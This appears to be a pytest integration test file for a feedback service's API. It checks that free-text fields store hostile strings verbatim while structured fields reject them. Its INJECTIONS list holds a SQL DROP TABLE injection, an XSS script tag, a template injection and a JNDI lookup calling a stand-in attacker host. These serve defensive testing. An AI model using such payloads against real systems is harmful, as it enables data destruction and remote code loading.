"""Hostile input on feedback's management API: injection strings in free text (a key account's
name, a webhook's description) are kept verbatim; in URLs, channels, ids, dates and KPI filters
they are a 4xx naming the field; broken bodies and wrong content types are 4xx problems. Nothing
refused leaves a row or an outbox event."""

from __future__ import annotations

import uuid

import pytest

from tests.integration.feedback.conftest import Feedback

INJECTIONS = [
    "'; DROP TABLE key_accounts; --",
    "<script>alert('x')</script>",
    "{{7*7}}${jndi:ldap://attacker.example/a}",
    "\u202eevil\u202c 差评 投诉",
]
TABLES = ("key_accounts", "key_account_callbacks", "webhook_subscriptions", "surveys", "outbox")


async def _counts(feedback: Feedback) -> dict[str, int]:
    return {t: int(await feedback.db.fetchval(f"SELECT count(*) FROM {t}")) for t in TABLES}


def _account(name: str) -> dict[str, str]:
    return {
        "customer_id": str(uuid.uuid4()),
        "name": name,
        "relationship_started_at": "2026-01-15T00:00:00Z",
    }


async def test_free_text_is_kept_verbatim_and_structured_fields_refuse_injection(
    feedback: Feedback,
) -> None:
    for attack in INJECTIONS:
        account = _account(attack)
        created = await feedback.client.post("/v1/key-accounts", json=account)
        assert created.status_code == 201, created.text
        got = await feedback.client.get(f"/v1/key-accounts/{account['customer_id']}")
        assert got.json()["name"] == attack
        hook = {"channel": "email", "url": "https://hooks.example/x", "description": attack}
        made = await feedback.client.post("/v1/webhooks", json=hook)
        assert made.status_code == 201, made.text
        assert made.json()["description"] == attack
    # The relay stopped, so that a refused request's outbox row (if any) could not be
    # published and deleted before the count below.
    assert feedback.relay is not None
    await feedback.relay.stop()
    before = await _counts(feedback)
    for attack in INJECTIONS:
        refused = [
            await feedback.client.post(
                "/v1/key-accounts", json=_account("x") | {"customer_id": attack}
            ),
            await feedback.client.post(
                "/v1/key-accounts", json=_account("x") | {"relationship_started_at": attack}
            ),
            await feedback.client.post(
                "/v1/webhooks", json={"channel": attack, "url": "https://hooks.example/x"}
            ),
            await feedback.client.post("/v1/webhooks", json={"channel": "chat", "url": attack}),
            await feedback.client.get(
                "/v1/kpis", params={"from": attack, "to": "2026-11-30", "group_by": "queue"}
            ),
            await feedback.client.get(
                "/v1/kpis", params={"from": "2026-11-01", "to": "2026-11-30", "group_by": attack}
            ),
        ]
        for response in refused:
            assert 400 <= response.status_code < 500, (attack, response.text)
            assert response.headers["content-type"] == "application/problem+json"
    assert await _counts(feedback) == before


@pytest.mark.parametrize(
    ("content", "content_type", "status"),
    [
        (b'{"channel": "email"', "application/json", 422),
        (b"channel=email", "application/x-www-form-urlencoded", 422),
        (b'{"description": "' + b"x" * 2_000_000 + b'"}', "application/json", 413),
        (
            b'{"channel": "email", "url": "https://h.example/x", "description": "\\u0000"}',
            "application/json",
            422,
        ),
    ],
)
async def test_broken_bodies_are_4xx_problems_and_store_nothing(
    feedback: Feedback, content: bytes, content_type: str, status: int
) -> None:
    before = await _counts(feedback)
    response = await feedback.client.post(
        "/v1/webhooks", content=content, headers={"Content-Type": content_type}
    )
    assert response.status_code == status, response.text
    assert response.headers["content-type"] == "application/problem+json"
    assert await _counts(feedback) == before
